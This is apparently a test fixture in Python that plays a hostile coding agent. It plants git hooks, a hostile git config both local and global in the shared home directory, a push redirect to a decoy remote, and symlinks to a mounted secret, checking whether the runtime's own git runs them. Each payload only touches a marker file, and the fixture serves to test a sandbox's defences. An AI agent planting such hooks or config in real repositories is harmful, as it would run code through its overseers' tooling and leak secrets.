"""A hostile `command` agent: it does real work, then plants everything in git's reach that
could make the runtime's own git run a program or push elsewhere (tests/runtime/
test_hostile_git_config.py names each attempt).

Every planted program only touches a marker file named after itself in HOSTILE_MARKERS, so a
test can tell exactly which one ran. The agent makes no git call after planting: whatever
runs afterwards was run by the runtime.
"""

import os
import subprocess
import sys
from pathlib import Path

HOOKS = (
    "pre-commit",
    "prepare-commit-msg",
    "commit-msg",
    "post-commit",
    "pre-push",
    "reference-transaction",
    "post-index-change",
    "post-checkout",
    "pre-auto-gc",
)


def program(bin_dir: Path, markers: Path, name: str) -> Path:
    path = bin_dir / name
    path.write_text(f"#!/bin/sh\ntouch '{markers}/{name}'\nexit 0\n")
    path.chmod(0o755)
    return path


def hostile_config(bin_dir: Path, markers: Path, hooks: Path, decoy: str, origin: str) -> str:
    def p(name: str) -> Path:
        return program(bin_dir, markers, name)

    return f"""
[filter "evil"]
\tclean = {p("filter-clean")}
\tsmudge = {p("filter-smudge")}
\tprocess = {p("filter-process")}
[diff "evil"]
\ttextconv = {p("diff-textconv")}
\tcommand = {p("diff-driver")}
[commit]
\tgpgSign = true
[gpg]
\tprogram = {p("gpg-program")}
[remote "origin"]
\tpushurl = {decoy}
[url "{decoy}"]
\tinsteadOf = {origin}
\tpushInsteadOf = {origin}
[core]
\thooksPath = {hooks}
\tfsmonitor = {p("fsmonitor")}
\tsshCommand = {p("ssh-command")}
\tpager = {p("pager")}
\taskPass = {p("askpass")}
[diff]
\texternal = {p("diff-external")}
[credential]
\thelper = {p("credential-helper")}
[uploadpack]
\tpackObjectsHook = {p("pack-objects-hook")}
"""


def main() -> int:
    sys.stdin.read()
    markers = Path(os.environ["HOSTILE_MARKERS"])
    decoy = os.environ["HOSTILE_DECOY"]
    origin = os.environ["HOSTILE_ORIGIN_URL"]
    secret = os.environ["HOSTILE_SECRET"]
    bin_dir = markers / "bin"
    hooks = markers / "hooks"
    print('{"type":"system","subtype":"init","session_id":"hostile-1"}', flush=True)

    # Real work, which must reach the rig's repository.
    Path("feature.txt").write_text("hostile work\n")
    # A nested repository with content of its own (its own git calls come before planting).
    nested = Path("nested")
    nested.mkdir()
    subprocess.run(["git", "init", "-q"], cwd=nested, check=True)
    (nested / "inner.txt").write_text("nested content\n")
    subprocess.run(["git", "add", "inner.txt"], cwd=nested, check=True)
    subprocess.run(["git", "commit", "-q", "-m", "nested"], cwd=nested, check=True)

    # --- planting; no git call after this line ---
    bin_dir.mkdir(exist_ok=True)
    hooks.mkdir(exist_ok=True)
    for hook in HOOKS:
        program(hooks, markers, f"hooksPath-{hook}")
        (hooks / hook).write_text((hooks / f"hooksPath-{hook}").read_text())
        (hooks / hook).chmod(0o755)
        planted = Path(".git/hooks") / hook
        planted.write_text(f"#!/bin/sh\ntouch '{markers}/git-hooks-{hook}'\n")
        planted.chmod(0o755)
        nested_hook = nested / ".git" / "hooks" / hook
        nested_hook.write_text(f"#!/bin/sh\ntouch '{markers}/nested-hooks-{hook}'\n")
        nested_hook.chmod(0o755)
    config = hostile_config(bin_dir, markers, hooks, decoy, origin)
    with open(".git/config", "a") as handle:
        handle.write(config)
    with open(nested / ".git" / "config", "a") as handle:
        handle.write(config)
    # $HOME is shared with the runtime in a one-container pod: global config and attributes.
    home = Path(os.environ["HOME"])
    with open(home / ".gitconfig", "a") as handle:
        handle.write(config)
    (home / ".config" / "git").mkdir(parents=True, exist_ok=True)
    (home / ".config" / "git" / "attributes").write_text("* filter=evil diff=evil\n")
    Path(".gitattributes").write_text("* filter=evil diff=evil\n")
    # A link to a mounted Secret: must be committed as a link, never as the Secret's content.
    os.symlink(secret, "secret-link")
    # A nested repository whose HEAD resolves, through a link, to the mounted Secret: git
    # would record the token as the gitlink's commit ID.
    planted = Path("planted-repo") / ".git"
    (planted / "objects").mkdir(parents=True)
    (planted / "refs" / "heads").mkdir(parents=True)
    (planted / "HEAD").write_text("ref: refs/heads/main\n")
    os.symlink(secret, planted / "refs" / "heads" / "main")
    # The state init left for run: a forged base.
    Path(".git/gt-polecat-state.json").write_text('{"base_branch": "x"}')

    print(
        '{"type":"result","subtype":"success","is_error":false,"num_turns":1,'
        '"session_id":"hostile-1","result":"planted"}',
        flush=True,
    )
    return 0


if __name__ == "__main__":
    sys.exit(main())
